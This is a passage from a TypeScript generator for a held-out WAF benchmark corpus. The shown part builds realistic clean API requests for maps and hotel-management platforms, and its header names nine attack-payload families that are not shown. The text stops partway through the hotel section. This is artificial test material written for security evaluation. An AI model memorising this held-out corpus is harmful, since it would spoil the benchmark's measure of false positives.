// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Held-out WAF API-profile corpus 18, written blind (without reading the WAF source, its docs, its tests or the
 * other corpora), to measure false positives on traffic from someone who does not know what the WAF tolerates.
 *
 * Domains of the clean traffic (eight, none used by earlier corpora):
 * 1. maps / geospatial and routing platform (geocoding, directions, GeoJSON datasets, WFS/CQL filters, styles);
 * 2. hotel property-management system (reservations, folios, housekeeping, OTA XML, e-mail templates);
 * 3. precision agriculture and farm management (fields, soil samples, prescriptions, telematics NDJSON);
 * 4. clinical trials / research pharmacy (FHIR resources, dispensing, AE narratives, EDC queries, edit checks);
 * 5. public library catalog and holds (CQL/SRU searches, MARC records, holds, SQL circulation reports);
 * 6. social-media content-moderation queue (quoted reported content, moderator notes, automod regex rules);
 * 7. IT asset management / MDM (inventory check-ins, shell and PowerShell scripts, profiles, pasted errors);
 * 8. cybersecurity awareness-training and CTF platform (lessons, quizzes and write-ups that discuss SQL
 *    injection, XSS and shell commands, flag submissions, forum chat).
 *
 * The attack corpus hides real payloads of nine families (sql, nosql, template, command, path-traversal, ssrf,
 * prototype-pollution, log4shell, xss) in requests to the same endpoints, with the hiding technique recorded.
 *
 * Deterministic: all variation comes from a seeded mulberry32 PRNG (no clock, no Math.random).
 * Run: `node bench/waf/corpus/heldout18.ts` writes `clean-heldout18.json` and `attacks-heldout18.json` next to
 * this file and prints the counts.
 */
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** mulberry32: a small seeded PRNG so every run produces byte-identical corpora. */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x4818_2611);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const fixed = (lo: number, hi: number, digits: number): number =>
  Number((lo + rnd() * (hi - lo)).toFixed(digits));
const HEX = '0123456789abcdef';
const ALNUM = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
const hex = (n: number): string => Array.from({ length: n }, () => pick([...HEX])).join('');
const alnum = (n: number): string => Array.from({ length: n }, () => pick([...ALNUM])).join('');
const digits = (n: number): string => Array.from({ length: n }, () => String(int(0, 9))).join('');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const BASE_MS = Date.UTC(2026, 9, 1, 0, 0, 0);
const iso = (): string => new Date(BASE_MS + int(0, 70 * 86400) * 1000).toISOString();
const isoMs = (): string => new Date(BASE_MS + int(0, 70 * 86400) * 1000 + int(0, 999)).toISOString();
const day = (): string => iso().slice(0, 10);
const enc = encodeURIComponent;
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const qs = (o: Record<string, string | number | boolean>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k)}=${enc(String(v))}`)
    .join('&');
const form = (o: Record<string, string | number>): string =>
  Object.entries(o)
    .map(([k, v]) => `${enc(k).replace(/%20/g, '+')}=${enc(String(v)).replace(/%20/g, '+')}`)
    .join('&');

/** A JWT-shaped bearer token (unsigned-looking random signature; the gateway is not verifying it here). */
function jwt(iss: string, sub: string): string {
  const head = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256']), typ: 'JWT', kid: hex(16) }));
  const iat = Math.floor(BASE_MS / 1000) + int(0, 5_000_000);
  const body = b64url(JSON.stringify({ iss, sub, aud: 'api', iat, exp: iat + 3600, scope: 'read write' }));
  return `${head}.${body}.${alnum(43).replace(/[A-F]/g, '_')}`;
}

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'okhttp/4.12.0',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'Go-http-client/2.0',
  'curl/8.10.1',
  'Dart/3.5 (dart:io)',
];

type Headers = Record<string, string>;

/** Common request headers: a realistic user agent, accept, bearer auth, and the content type when given. */
function hdr(iss: string, contentType?: string, extra: Headers = {}): Headers {
  const h: Headers = {
    'user-agent': pick(UAS),
    accept: contentType === 'application/vnd.api+json' ? 'application/vnd.api+json' : 'application/json',
    authorization: `Bearer ${jwt(iss, `usr_${alnum(10)}`)}`,
  };
  if (contentType) h['content-type'] = contentType;
  if (rnd() < 0.4) h['x-request-id'] = uuid();
  if (rnd() < 0.2)
    h['accept-language'] = pick([
      'en-US,en;q=0.9',
      'de-DE,de;q=0.8,en;q=0.5',
      'fr-CA',
      'ja-JP',
      'pt-BR,pt;q=0.9',
    ]);
  return { ...h, ...extra };
}

/** A multipart/form-data body with CRLF line ends and a browser-style boundary. */
function multipart(parts: readonly { name: string; filename?: string; type?: string; value: string }[]): {
  ct: string;
  body: string;
} {
  const boundary = `----WebKitFormBoundary${alnum(16)}`;
  let body = '';
  for (const p of parts) {
    body += `--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"`;
    if (p.filename !== undefined) body += `; filename="${p.filename}"`;
    body += '\r\n';
    if (p.type !== undefined) body += `Content-Type: ${p.type}\r\n`;
    body += `\r\n${p.value}\r\n`;
  }
  body += `--${boundary}--\r\n`;
  return { ct: `multipart/form-data; boundary=${boundary}`, body };
}

const clean: CorpusRequest[] = [];
const attacks: CorpusRequest[] = [];

/** Append a clean request. */
function c(kind: string, method: string, path: string, headers: Headers, body: unknown = ''): void {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  clean.push({ id: `h18c${clean.length + 1}`, kind, method, path, headers, body: text });
}

/** GraphQL POST body. */
const gql = (operationName: string, query: string, variables: Record<string, unknown>): string =>
  JSON.stringify({ operationName, query, variables });

/** Persisted-query GraphQL GET path (APQ style). */
const gqlGet = (base: string, operationName: string, variables: Record<string, unknown>): string =>
  `${base}?${qs({
    operationName,
    variables: JSON.stringify(variables),
    extensions: JSON.stringify({ persistedQuery: { version: 1, sha256Hash: hex(64) } }),
  })}`;

const NAMES = [
  "Siobhán O'Connor",
  'Jürgen Weiß',
  'María José Núñez',
  '山田 太郎',
  "Zoë D'Angelo-Smith",
  'Олександр Коваленко',
  'Nguyễn Thị Hoa',
  'Aarav Sharma',
  'Fatima Al-Zahra',
  'Björn Ødegård',
  'Chloé Lefèvre',
  'Kwame Mensah',
  'Łukasz Wiśniewski',
  'Ngozi Okafor',
  '김민지',
  'Tomás Ó Floinn',
];
const EMAILS = [
  'j.weiss@example.de',
  'maria.nunez+reservas@correo.es',
  'ops-team@acme-logistics.com',
  'siobhan.oconnor@outlook.ie',
  'taro.yamada@example.co.jp',
  'first.last@sub.univ.edu',
  "o'brien.k@example.org",
  'noreply+alerts@farm-ops.io',
];
const CITIES = [
  { name: 'Berlin', lat: 52.52, lon: 13.405 },
  { name: 'São Paulo', lat: -23.5505, lon: -46.6333 },
  { name: 'Kraków', lat: 50.0647, lon: 19.945 },
  { name: 'Toronto', lat: 43.6532, lon: -79.3832 },
  { name: 'Osaka', lat: 34.6937, lon: 135.5023 },
  { name: 'Nairobi', lat: -1.2921, lon: 36.8219 },
  { name: 'Des Moines', lat: 41.5868, lon: -93.625 },
  { name: 'Reykjavík', lat: 64.1466, lon: -21.9426 },
];

// ---------------------------------------------------------------------------------------------------------------
// 1. Maps / geospatial & routing platform
// ---------------------------------------------------------------------------------------------------------------
function mapsDomain(): void {
  const iss = 'https://auth.geoplat.example';
  const ADDRS = [
    '1600 Amphitheatre Pkwy, Mountain View, CA 94043',
    'Unter den Linden 77, 10117 Berlin',
    'Rua Oscar Freire, 379 - Jardim Paulista, São Paulo - SP, 01426-001',
    '大阪府大阪市北区梅田3丁目1-1',
    'ul. Floriańska 15/3, 31-019 Kraków',
    "O'Connell Street Upper, Dublin 1, D01 F5P2",
    'Apt #4B, 350 5th Ave & W 34th St, New York, NY',
    'Laugavegur 28, 101 Reykjavík',
    'Kenyatta Ave / Moi Ave junction, Nairobi',
    'P.O. Box 1234; Rural Route 2, Ames, IA 50010',
  ];
  const around = (city: { lat: number; lon: number }): [number, number] => [
    Number((city.lon + fixed(-0.05, 0.05, 5)).toFixed(6)),
    Number((city.lat + fixed(-0.05, 0.05, 5)).toFixed(6)),
  ];
  const T: (() => void)[] = [
    () =>
      c(
        'rest-get',
        'GET',
        `/v2/geocode?${qs({ q: pick(ADDRS), limit: int(1, 10), lang: pick(['en', 'de', 'pt-BR', 'ja', 'pl']), country: pick(['us', 'de', 'br', 'jp', 'pl,cz']) })}`,
        hdr(iss),
      ),
    () => {
      const city = pick(CITIES);
      const [lon, lat] = around(city);
      c(
        'rest-get',
        'GET',
        `/v2/reverse?lat=${lat}&lon=${lon}&layers=address,poi&zoom=${int(14, 18)}`,
        hdr(iss),
      );
    },
    () => {
      const city = pick(CITIES);
      c('rest-write', 'POST', '/v1/directions', hdr(iss, 'application/json'), {
        locations: [
          { lat: around(city)[1], lon: around(city)[0], type: 'break' },
          {
            lat: around(city)[1],
            lon: around(city)[0],
            type: 'through',
            name: pick(['Depot #3', "Customer: Bob's Diner", 'Stop A/B']),
          },
          { lat: around(city)[1], lon: around(city)[0], type: 'break' },
        ],
        costing: pick(['auto', 'truck', 'bicycle', 'pedestrian']),
        costing_options: {
          truck: { height: 4.11, width: 2.6, hazmat: rnd() < 0.3, exclude_polygons: [] },
          auto: { use_tolls: 0.2, use_highways: 1 },
        },
        directions_options: {
          units: pick(['kilometers', 'miles']),
          language: pick(['en-US', 'de-DE', 'fr-FR']),
        },
        date_time: { type: 1, value: iso().slice(0, 16) },
        avoid_locations: rnd() < 0.5 ? [{ lat: around(city)[1], lon: around(city)[0] }] : [],
      });
    },
    () =>
      c(
        'search',
        'GET',
        `/v1/places/search?${qs({ q: pick(['café', 'pharmacy open now', 'EV charger CCS 150kW', 'ramen', 'Bäckerei', 'hardware store "Ace"', 'pizza -chain', 'sushi & sake', "children's museum"]), near: `${pick(CITIES).lat},${pick(CITIES).lon}`, radius: int(500, 20000), filter: pick(['rating>=4.5', 'price_level<=2;open_now==true', 'category=in=(food,drink)', 'wheelchair=yes']), sort: pick(['-rating', 'distance', 'relevance']) })}`,
        hdr(iss),
      ),
    () => {
      const city = pick(CITIES);
      const ring: [number, number][] = [around(city), around(city), around(city), around(city)];
      ring.push(ring[0] as [number, number]);
      c('rest-write', 'POST', `/v1/datasets/ds_${alnum(10)}/features`, hdr(iss, 'application/geo+json'), {
        type: 'FeatureCollection',
        features: [
          {
            type: 'Feature',
            id: uuid(),
            geometry: { type: 'Polygon', coordinates: [ring] },
            properties: {
              name: pick(['Lot 12 / North', 'Zone "C"', 'Ärztehaus Parkplatz']),
              capacity: int(10, 400),
              notes: 'imported from shapefile; SRID 4326 (was EPSG:25832)',
            },
          },
          {
            type: 'Feature',
            id: uuid(),
            geometry: { type: 'Point', coordinates: around(city) },
            properties: { name: 'Gate 3', access: 'permit-only', 'addr:street': pick(ADDRS) },
          },
        ],
      });
    },
    () =>
      c(
        'merge-patch',
        'PATCH',
        `/v1/datasets/ds_${alnum(10)}/features/${uuid()}`,
        hdr(iss, 'application/merge-patch+json'),
        {
          properties: {
            name: pick(['Loading dock (rear)', 'Entrée principale', 'Tor 2 – LKW']),
            opening_hours: pick([
              'Mo-Fr 08:00-18:00; Sa 09:00-13:00; PH off',
              '24/7',
              'Mo-Su 06:00-22:00 || "by appointment"',
            ]),
            deprecated_field: null,
          },
        },
      ),
    () => {
      const lines: string[] = [];
      for (let i = 0; i < int(3, 6); i++) {
        const city = pick(CITIES);
        lines.push(
          JSON.stringify({
            type: 'Feature',
            geometry: { type: 'Point', coordinates: around(city) },
            properties: {
              store_id: `S-${digits(5)}`,
              name: `${pick(['Kwik', 'Super', 'Mini', 'Öko'])} Mart #${int(1, 999)}`,
              ts: isoMs(),
            },
          }),
        );
      }
      c(
        'ndjson',
        'POST',
        `/v1/datasets/ds_${alnum(10)}/features:bulk`,
        hdr(iss, 'application/x-ndjson'),
        `${lines.join('\n')}\n`,
      );
    },
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'RouteMatrix',
          'query RouteMatrix($origins: [LatLngInput!]!, $destinations: [LatLngInput!]!, $mode: TravelMode) {\n  matrix(origins: $origins, destinations: $destinations, mode: $mode) {\n    rows { elements { durationSeconds distanceMeters status } }\n  }\n}',
          {
            origins: [{ lat: pick(CITIES).lat, lng: pick(CITIES).lon }],
            destinations: [
              { lat: pick(CITIES).lat, lng: pick(CITIES).lon },
              { lat: pick(CITIES).lat, lng: pick(CITIES).lon },
            ],
            mode: pick(['DRIVING', 'TRANSIT', 'WALKING']),
          },
        ),
      ),
    () =>
      c(
        'graphql',
        'GET',
        gqlGet('/graphql', 'PlaceDetails', { id: `place_${alnum(14)}`, locale: pick(['en', 'de', 'ja']) }),
        hdr(iss),
      ),
    () => {
      const cql = pick([
        "INTERSECTS(geom, POLYGON((13.3 52.4, 13.5 52.4, 13.5 52.6, 13.3 52.6, 13.3 52.4))) AND highway IN ('primary','secondary')",
        "name LIKE 'Haupt%' AND maxspeed > 30",
        "DWITHIN(geom, POINT(-93.62 41.58), 500, meters) AND status <> 'closed'",
        "BBOX(the_geom, -79.5, 43.6, -79.3, 43.8) AND (type = 'school' OR type = 'hospital')",
        'updated_at AFTER 2026-10-01T00:00:00Z AND surface IS NOT NULL',
      ]);
      c(
        'rest-get',
        'GET',
        `/geoserver/wfs?${qs({ service: 'WFS', version: '2.0.0', request: 'GetFeature', typeNames: pick(['osm:roads', 'city:parcels', 'poi:amenities']), outputFormat: 'application/json', count: int(50, 1000), CQL_FILTER: cql })}`,
        hdr(iss, undefined, { accept: 'application/json' }),
      );
    },
    () =>
      c(
        'code',
        'PUT',
        `/v1/styles/${alnum(8)}/layers/${pick(['road-label', 'poi-icons', 'buildings-3d'])}`,
        hdr(iss, 'application/json'),
        {
          id: 'road-label',
          type: 'symbol',
          source: 'composite',
          'source-layer': 'road',
          filter: [
            'all',
            ['==', ['geometry-type'], 'LineString'],
            ['match', ['get', 'class'], ['motorway', 'trunk', 'primary'], true, false],
          ],
          layout: {
            'text-field': ['coalesce', ['get', 'name_en'], ['get', 'name']],
            'text-size': [
              'interpolate',
              ['linear'],
              ['zoom'],
              10,
              10,
              18,
              ['case', ['>=', ['get', 'rank'], 3], 16, 14],
            ],
            'text-font': ['DIN Pro Medium', 'Arial Unicode MS Regular'],
          },
          paint: {
            'text-color': '#3b3b3b',
            'text-halo-color': 'rgba(255,255,255,0.85)',
            'text-halo-width': 1.2,
          },
        },
      ),
    () => {
      const pts = Array.from({ length: int(3, 6) }, () => {
        const [lon, lat] = around(pick(CITIES));
        return `    <trkpt lat="${lat}" lon="${lon}"><ele>${fixed(10, 400, 1)}</ele><time>${iso()}</time></trkpt>`;
      }).join('\n');
      const gpx = `<?xml version="1.0" encoding="UTF-8"?>\n<gpx version="1.1" creator="Garmin Connect" xmlns="http://www.topografix.com/GPX/1/1">\n  <trk><name>Morning Ride – Ötztal</name><trkseg>\n${pts}\n  </trkseg></trk>\n</gpx>`;
      const m = multipart([
        {
          name: 'trace',
          filename: pick(['Morning_Ride.gpx', 'track 2026-10-14.gpx', 'activity_1839201.gpx']),
          type: 'application/gpx+xml',
          value: gpx,
        },
        { name: 'profile', value: pick(['cycling', 'driving']) },
        { name: 'tidy', value: 'true' },
      ]);
      c('multipart', 'POST', '/v1/matching/upload', hdr(iss, m.ct), m.body);
    },
    () => c('delete', 'DELETE', `/v1/users/me/saved-places/${uuid()}`, hdr(iss)),
    () =>
      c('prose', 'POST', `/v1/places/place_${alnum(14)}/reviews`, hdr(iss, 'application/json'), {
        rating: int(1, 5),
        text: pick([
          'Parking entrance is on the back side (Hinterhof) — the pin puts you at the front door, which is pedestrian-only. Took me 20 min & 3 U-turns.',
          'La dirección está mal: el número 379 es la farmacia, el café queda en el 381. ¡Pero el flat white vale la pena!',
          '駐車場は地下2階です。入口が分かりにくいので注意してください。',
          'Closed permanently as of Oct 2026?? Sign on the door says "we moved to 12 Elm St" — please update.',
          'Wheelchair access: ramp on left side, door width ~90cm; restroom is NOT accessible (step up ~15 cm).',
          'Navigation sent me through a gated community (code required). Route should avoid private roads; tagged access=private in OSM.',
          "Відмінна кав'ярня, але Wi‑Fi пароль змінюється щодня, треба питати бариста.",
        ]),
        visited_at: day(),
        photos: rnd() < 0.3 ? [`https://cdn.geoplat.example/u/${alnum(12)}.jpg`] : [],
      }),
    () =>
      c(
        'rest-get',
        'GET',
        `/v1/isochrone?${qs({ lat: pick(CITIES).lat, lon: pick(CITIES).lon, contours_minutes: '5,10,15', costing: pick(['auto', 'pedestrian']), polygons: true, denoise: 0.5, generalize: 50 })}`,
        hdr(iss),
      ),
    () =>
      c('code', 'POST', `/v1/notebooks/${alnum(8)}/cells`, hdr(iss, 'application/json'), {
        cell: {
          cell_type: 'code',
          language: pick(['javascript', 'python']),
          source: pick([
            "import * as turf from '@turf/turf';\nconst buffered = turf.buffer(route, 0.5, { units: 'kilometers' });\nconst hits = stores.features.filter((f) => turf.booleanPointInPolygon(f, buffered));\nconsole.log(`${hits.length} stores within 500 m`);",
            "import geopandas as gpd\ngdf = gpd.read_file('parcels.shp').to_crs(epsg=3857)\ngdf['area_m2'] = gdf.geometry.area\nprint(gdf[gdf.area_m2 > 5000][['parcel_id', 'owner']].head())",
            'SELECT p.id, ST_Distance(p.geom::geography, ST_MakePoint(-93.62, 41.58)::geography) AS d\nFROM poi p\nWHERE ST_DWithin(p.geom::geography, ST_MakePoint(-93.62, 41.58)::geography, 2000)\nORDER BY d LIMIT 20;',
          ]),
          metadata: { collapsed: false },
        },
        position: 'after',
      }),
  ];
  for (let i = 0; i < 56; i++) (T[i % T.length] as () => void)();
}

// ---------------------------------------------------------------------------------------------------------------
// 2. Hotel property-management system
// ---------------------------------------------------------------------------------------------------------------
function hotelDomain(): void {
  const iss = 'https://id.staybridge-pms.example';
  const prop = (): string => `prop_${pick(['BER01', 'LIS02', 'NYC05', 'KYO01', 'DUB03'])}`;
  const REQUESTS = [
    'Late arrival ~23:30 (flight LH 454 from FRA). Please hold the room — card on file.',
    'Allergic to feathers → hypoallergenic pillows please. Also no nuts in the welcome amenity!!',
    'Honeymoon 💍 — could you arrange champagne & roses? Will pay on checkout.',
    'Necesitamos cuna para bebé y habitación en piso alto (lejos del ascensor) si es posible.',
    'Rollstuhlgerechtes Zimmer mit bodengleicher Dusche benötigt.',
    '部屋は禁煙でお願いします。チェックインは15時頃の予定です。',
    'Group "ACME Q4 Offsite" – bill room & tax to master folio #88213, incidentals to guest.',
    'Guest says: "last time the AC in 412 was broken" – please don\'t assign 412.',
  ];
  const T: (() => void)[] = [
    () => {
      const arr = day();
      c('rest-write', 'POST', `/api/v1/properties/${prop()}/reservations`, hdr(iss, 'application/json'), {
        guest: {
          name: pick(NAMES),
          email: pick(EMAILS),
          phone: `+${int(1, 81)} ${digits(3)} ${digits(3)} ${digits(4)}`,
          loyalty_id: rnd() < 0.5 ? `GLD-${digits(8)}` : null,
          address: {
            line1: pick([
              'Hauptstraße 5',
              "12 O'Neill Rd",
              '742 Evergreen Terrace',
              'Calle de Alcalá 45, 3º Izq.',
            ]),
            city: pick(CITIES).name,
            country: pick(['DE', 'IE', 'US', 'ES', 'JP']),
          },
        },
        stay: {
          arrival: arr,
          nights: int(1, 9),
          adults: int(1, 3),
          children: int(0, 2),
          room_type: pick(['KING-DLX', 'TWN-STD', 'STE-JR', 'QQ-ACC']),
          rate_plan: pick(['BAR', 'AAA', 'CORP-ACME', 'PKG-BKFST', 'NRF-15%']),
        },
        special_requests: pick(REQUESTS),
        guarantee: {
          type: 'card',
          token: `tok_${alnum(24)}`,
          last4: digits(4),
          brand: pick(['visa', 'mastercard', 'amex']),
        },
        source: pick(['direct-web', 'booking.com', 'expedia', 'phone', 'walk-in']),
      });
    },
    () =>
      c(
        'rest-get',
        'GET',
        `/api/v1/properties/${prop()}/availability?${qs({ arrival: day(), departure: day(), adults: int(1, 4), rate_plan: pick(['BAR', 'AAA', 'CORP-ACME']), 'room_type[]': pick(['KING-DLX', 'TWN-STD']), include: 'restrictions,taxes', currency: pick(['EUR', 'USD', 'JPY']) })}`,
        hdr(iss),
      ),
    () =>
      c(
        'rest-write',
        'POST',
        `/api/v1/folios/${digits(6)}/charges`,
        hdr(iss, 'application/json', { 'idempotency-key': uuid() }),
        {
          code: pick(['MINIBAR', 'F&B-REST', 'SPA', 'PARKING', 'LAUNDRY', 'NO-SHOW']),
          description: pick([
            '2x Heineken, 1x Pringles (room 508)',
            'Dinner – table 14, 3 covers, incl. 10% svc',
            'Massage 60′ – "Deep tissue"',
            'Valet – 3 nights @ €32/night',
            'Dry cleaning: 1 suit, 2 shirts (express +50%)',
          ]),
          amount: { value: fixed(3, 420, 2), currency: pick(['EUR', 'USD']) },
          tax_codes: ['VAT19', pick(['CITYTAX', 'SVC10'])],
          posted_by: `emp_${digits(4)}`,
          pos_payload: JSON.stringify({
            pos: 'Oracle MICROS Simphony',
            check: Number(digits(6)),
            table: int(1, 40),
            items: [
              {
                sku: `F${digits(4)}`,
                qty: int(1, 3),
                name: pick(['Wiener Schnitzel', 'Caesar salad (no anchovies)', 'Club sandwich']),
              },
            ],
            server: pick(NAMES),
          }),
          business_date: day(),
        },
      ),
    () =>
      c(
        'merge-patch',
        'PATCH',
        `/api/v1/properties/${prop()}/rooms/${int(101, 1220)}`,
        hdr(iss, 'application/merge-patch+json'),
        {
          housekeeping_status: pick(['dirty', 'clean', 'inspected', 'out_of_order']),
          maintenance:
            rnd() < 0.4
              ? {
                  ticket: `MT-${digits(5)}`,
                  note: pick([
                    'Shower drain slow; plumber Tues.',
                    'TV remote missing (again)',
                    'Ceiling stain near window – check room above (x12)',
                  ]),
                }
              : null,
          do_not_disturb: rnd() < 0.3,
        },
      ),
    () =>
      c('jsonapi', 'PATCH', `/api/v2/guests/${uuid()}`, hdr(iss, 'application/vnd.api+json'), {
        data: {
          type: 'guests',
          id: uuid(),
          attributes: {
            'preferred-name': pick(['Jürgen', 'Siobhán', 'Dr. Núñez', 'Taro']),
            preferences: {
              pillow: pick(['foam', 'feather-free']),
              floor: 'high',
              newspaper: pick(['FAZ', 'none', 'Irish Times']),
            },
            'marketing-opt-in': rnd() < 0.5,
            notes: pick([
              'VIP – GM’s friend',
              'Prefers quiet room; complained about street noise 2025-07',
              "Uses 'Dr.' title",
            ]),
          },
          relationships: { company: { data: { type: 'companies', id: `cmp_${digits(4)}` } } },
        },
      }),
    () =>
      c('prose', 'POST', `/api/v1/properties/${prop()}/logbook`, hdr(iss, 'application/json'), {
        shift: pick(['night', 'am', 'pm']),
        author: pick(NAMES),
        entry: pick([
          'Fire alarm test 03:10 on floors 3-5, false trigger from steam in 318. Fire dept. notified & cancelled. Guests in 316/320 given late checkout as goodwill.',
          'Walk-in couple w/o ID (said wallet stolen) — declined per policy §4.2; referred to police station on Alexanderplatz.',
          'Registro de llegada: huésped de la 704 reporta olor a humo; se cambió a la 910. Cargo de limpieza profunda pendiente de aprobación.',
          'Audit: cash drawer short €20.00 — recounted twice; envelope left in safe w/ note for FO manager.',
          'Elevator #2 stuck between 6 & 7 for ~4 min (no one inside). Schindler ticket 55-1182; out of service till AM.',
        ]),
        tags: ['incident', pick(['safety', 'guest-relations', 'finance'])],
      }),
    () =>
      c(
        'form',
        'POST',
        '/booking-engine/search',
        {
          'user-agent': pick(UAS.slice(0, 4)),
          accept: 'text/html,application/xhtml+xml',
          'content-type': 'application/x-www-form-urlencoded',
          cookie: `be_sess=${alnum(32)}; consent=analytics%3Dfalse`,
        },
        form({
          hotel: pick(['BER01', 'LIS02']),
          checkin: day(),
          checkout: day(),
          rooms: 1,
          'adults[0]': 2,
          'children[0]': 1,
          'ages[0][0]': 7,
          promo: pick(['', 'WINTER25', 'FAMILY+KIDS', 'SUMMER-%']),
          lang: pick(['de', 'en', 'pt']),
        }),
      ),
    () =>
      c(
        'cms-html',
        'PUT',
        `/api/v1/properties/${prop()}/templates/${pick(['confirmation', 'pre-arrival', 'post-stay'])}`,
        hdr(iss, 'application/json'),
        {
          template: {
            subject: pick([
              'Your stay at {{hotel.name}} is confirmed ({{reservation.code}})',
              'Bienvenido, {{guest.first_name}} – tu llegada se acerca',
            ]),
            locale: pick(['en', 'es', 'de']),
            body_html: `<table role="presentation" width="100%" style="font-family:Arial,sans-serif"><tr><td><img src="https://cdn.staybridge-pms.example/logo.png" alt="Hotel logo" width="160"></td></tr><tr><td><h1 style="color:#1a3d5c">Hello {{guest.first_name}},</h1><p>We look forward to welcoming you on <strong>{{stay.arrival | date: "%d %B %Y"}}</strong>. Check-in from 15:00; early check-in is subject to availability.</p>{% if stay.breakfast %}<p>Breakfast is served 06:30–10:30 in <em>Café Linden</em>.</p>{% endif %}<p><a href="https://book.staybridge-pms.example/manage?code={{reservation.code}}&amp;email={{guest.email | url_encode}}" style="background:#1a3d5c;color:#fff;padding:10px 16px;border-radius:4px;text-decoration:none">Manage booking</a></p></td></tr></table>`,
          },
        },
      ),
    () => {
      const xml = `<?xml version="1.0" encoding="UTF-8"?>\n<OTA_HotelResNotifRQ xmlns="http://www.opentravel.org/OTA/2003/05" EchoToken="${uuid()}" TimeStamp="${iso()}" Version="1.003">\n  <HotelReservations>\n    <HotelReservation CreateDateTime="${iso()}" ResStatus="Book">\n      <RoomStays><RoomStay><RoomTypes><RoomType RoomTypeCode="KING-DLX"/></RoomTypes>\n        <RatePlans><RatePlan RatePlanCode="BAR"/></RatePlans>\n        <TimeSpan Start="${day()}" Duration="P${int(1, 6)}N"/>\n      </RoomStay></RoomStays>\n      <ResGuests><ResGuest><Profiles><ProfileInfo><Profile><Customer><PersonName><GivenName>${pick(['Chloé', 'Kwame', 'Jürgen'])}</GivenName><Surname>${pick(["O'Connor", 'Lefèvre', 'Mensah'])}</Surname></PersonName></Customer></Profile></ProfileInfo></Profiles></ResGuest></ResGuests>\n      <ResGlobalInfo><Comments><Comment><Text>Non-smoking &amp; high floor please</Text></Comment></Comments></ResGlobalInfo>\n    </HotelReservation>\n  </HotelReservations>\n</OTA_HotelResNotifRQ>`;
      c(
        'rest-write',
        'POST',
        '/channel/ota/v1/reservations',
        {
          'user-agent': 'SiteMinder-Channel/5.2',
          'content-type': 'application/xml',
          accept: 'application/xml',
          authorization: `Basic ${b64(`ota_${alnum(6)}:${alnum(20)}`)}`,
        },
        xml,
      );
    },
    () =>
      c('code', 'POST', '/api/v1/reports/custom', hdr(iss, 'application/json'), {
        name: pick(['ADR by segment (last 30d)', 'No-shows by source', 'OOO rooms aging']),
        schedule: {
          cron: pick(['0 6 * * *', '30 23 * * 1-5']),
          tz: 'Europe/Berlin',
          recipients: [pick(EMAILS)],
        },
        sql: pick([
          "SELECT r.market_segment, COUNT(*) AS room_nights, ROUND(SUM(f.room_revenue) / NULLIF(COUNT(*), 0), 2) AS adr\nFROM reservations r\nJOIN folio_lines f ON f.reservation_id = r.id AND f.code = 'ROOM'\nWHERE r.business_date >= CURRENT_DATE - INTERVAL '30 days'\n  AND r.status <> 'cancelled'\nGROUP BY r.market_segment\nORDER BY adr DESC;",
          "SELECT source, COUNT(*) FILTER (WHERE status = 'no_show') AS no_shows, COUNT(*) AS total\nFROM reservations WHERE arrival BETWEEN :from AND :to GROUP BY source;",
          "select room_no, ooo_reason, now()::date - ooo_since as days from rooms where status = 'OOO' order by 3 desc",
        ]),
      }),
    () =>
      c(
        'graphql',
        'POST',
        '/graphql',
        hdr(iss, 'application/json'),
        gql(
          'Arrivals',
          'query Arrivals($propertyId: ID!, $date: Date!, $first: Int = 50, $after: String) {\n  arrivals(propertyId: $propertyId, date: $date, first: $first, after: $after) {\n    edges { node { code guest { name vip } room { number status } eta specialRequests } }\n    pageInfo { hasNextPage endCursor }\n  }\n}',
          {
            propertyId: prop(),
            date: day(),
            first: 50,
            after: rnd() < 0.5 ? b64(`cursor:${int(50, 500)}`) : null,
          },
        ),
      ),
    () =>
      c(
        'delete',
        'DELETE',
        `/api/v1/reservations/${pick(['R', 'BK'])}${digits(8)}?reason=${enc(pick(['guest_request', 'duplicate', 'card declined – 2nd attempt']))}&notify_guest=true`,
        hdr(iss),
      ),
    () => {
      const lines = Array.from({ length: int(3, 5) }, () =>
        JSON.stringify({
          date: day(),
          room_type: pick(['KING-DLX', 'TWN-STD', 'STE-JR']),
          rate_plan: pick(['BAR', 'NRF-15%', 'AAA']),
          amount: fixed(89, 640, 2),
          currency: 'EUR',
          min_los: int(1, 3),
          closed_to_arrival: rnd() < 0.1,
        }),
      );
      c(
        'ndjson',
        'POST',
        `/api/v1/properties/${prop()}/rates:import`,
        hdr(iss, 'application/x-ndjson'),
        `${lines.join('\n')}\n`,
      );
    },
    () =>
      c(
        'search',
        'GET',
